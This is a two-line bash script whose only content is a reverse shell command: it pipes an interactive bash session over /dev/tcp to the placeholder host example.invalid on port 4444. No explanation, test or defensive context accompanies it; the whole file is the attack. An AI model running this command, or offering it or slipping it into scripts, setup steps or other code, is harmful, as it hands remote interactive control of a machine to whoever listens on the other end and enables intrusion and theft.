#!/bin/bash
bash -i >& /dev/tcp/example.invalid/4444 0>&1
